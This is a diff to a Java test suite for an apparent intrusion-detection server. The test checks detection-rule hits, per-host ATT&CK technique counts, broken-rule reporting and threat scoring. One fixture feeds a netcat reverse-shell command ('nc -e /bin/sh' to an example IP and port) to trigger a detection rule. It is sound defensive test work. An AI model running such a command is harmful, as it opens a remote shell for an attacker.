@@ -1,12 +1,14 @@
 package dev.panoptes.server.detections;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.within;
 
 import dev.panoptes.server.TestServer;
 import dev.panoptes.server.TestServer.Answer;
 import dev.panoptes.server.storage.TestPostgres;
 import dev.panoptes.server.storage.TestPostgres.Databases;
 import java.io.IOException;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Instant;
 import java.time.temporal.ChronoUnit;
@@ -113,8 +115,81 @@ class DetectionsTest {
                     .isEqualTo("high");
             assertThat(server.get("/api/v1/rules/nothing").status()).isEqualTo(404);
             assertThat(server.get("/api/v1/attack").json().path("items").toString())
-                    .contains("T1059.004", "T1562.001", "T1685");
+                    .contains("T1059.004", "T1562.001", "T1685", "dga_domain");
         }
+    }
+
+    @Test
+    void whatARuleMatchedAndWhoCouldSeeItIsTold(Databases databases) throws IOException, InterruptedException {
+        Path rules = Files.createDirectories(directory.resolve("rules.d"));
+        Files.writeString(
+                rules.resolve("no_condition.yml"), "title: x\nlogsource: {product: linux}\ndetection: {a: {b: c}}\n");
+        try (TestServer server = TestServer.start(databases, directory, Map.of("observe.local", "false"))) {
+            JsonNode unseen = rule(server, "reverse_shell_netcat");
+            assertThat(unseen.path("hits").asLong()).isZero();
+            assertThat(unseen.path("last_hit").isNull()).isTrue();
+            assertThat(unseen.path("text").asString()).contains("title:");
+            assertThat(unseen.path("sensors").toString()).contains("\"proc\"");
+            assertThat(unseen.path("cases").size()).isGreaterThan(2);
+            unseen.path("cases")
+                    .forEach(one -> assertThat(one.path("holds").asBoolean()).isTrue());
+            assertThat(technique(server, "/api/v1/attack", "T1059.004")
+                            .path("host_count")
+                            .asInt())
+                    .isZero();
+
+            String token = server.call(
+                            "POST", "/api/v1/tokens", "{\"name\":\"o\",\"role\":\"observer\",\"host\":\"web-1\"}")
+                    .json()
+                    .path("token")
+                    .asString();
+            Instant now = Instant.now().truncatedTo(ChronoUnit.SECONDS);
+            send(server, token, "proc", List.of(process("n1", now, "alice", "nc -e /bin/sh 192.0.2.7 4444")));
+
+            JsonNode seen = rule(server, "reverse_shell_netcat");
+            assertThat(seen.path("hits").asLong()).isEqualTo(1);
+            assertThat(Instant.parse(seen.path("last_hit").asString())).isEqualTo(now);
+            assertThat(seen.path("hosts").get(0).path("host").asString()).isEqualTo("web-1");
+            JsonNode shell = technique(server, "/api/v1/attack", "T1059.004");
+            assertThat(shell.path("hosts").toString()).isEqualTo("[\"web-1\"]");
+            assertThat(shell.path("hits").asLong()).isPositive();
+            JsonNode names = technique(server, "/api/v1/attack?host=web-1", "T1568.002");
+            assertThat(names.path("host_count").asInt()).isZero();
+            assertThat(names.path("blind_count").asInt()).isEqualTo(1);
+            assertThat(technique(server, "/api/v1/attack?host=other", "T1059.004")
+                            .path("blind_count")
+                            .asInt())
+                    .isZero();
+
+            JsonNode broken = rule(server, "no_condition");
+            assertThat(broken.path("state").asString()).isEqualTo("broken");
+            assertThat(broken.path("reasons").toString()).contains("condition");
+            assertThat(broken.path("text").asString()).startsWith("title: x");
+
+            JsonNode threat = server.get("/api/v1/threat").json();
+            assertThat(threat.path("reasons").size()).isEqualTo(1);
+            JsonNode reason = threat.path("reasons").get(0);
+            assertThat(reason.path("weight").asInt()).isIn(45, 80);
+            assertThat(reason.path("points").asDouble())
+                    .isCloseTo(threat.path("score").asDouble(), within(0.11));
+            assertThat(threat.path("reason").asString()).contains("1 open incident");
+            assertThat(threat.path("thresholds").get(4).path("level").asString())
+                    .isEqualTo("LOW");
+        }
+    }
+
+    private static JsonNode rule(TestServer server, String name) throws IOException, InterruptedException {
+        return server.get("/api/v1/rules/" + name).json();
+    }
+
+    private static JsonNode technique(TestServer server, String path, String id)
+            throws IOException, InterruptedException {
+        for (JsonNode one : server.get(path).json().path("items")) {
+            if (one.path("technique").asString().equals(id)) {
+                return one;
+            }
+        }
+        throw new AssertionError("no technique " + id);
     }
 
     @Test
